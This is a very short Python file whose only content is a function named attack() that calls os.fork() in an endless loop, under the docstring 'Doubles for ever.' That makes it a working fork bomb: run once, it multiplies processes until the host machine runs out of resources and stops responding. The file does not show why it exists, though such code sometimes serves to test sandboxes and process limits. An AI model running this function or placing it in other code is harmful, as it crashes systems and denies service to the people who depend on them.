"""Doubles for ever."""

import os


def attack():
    while True:
        os.fork()
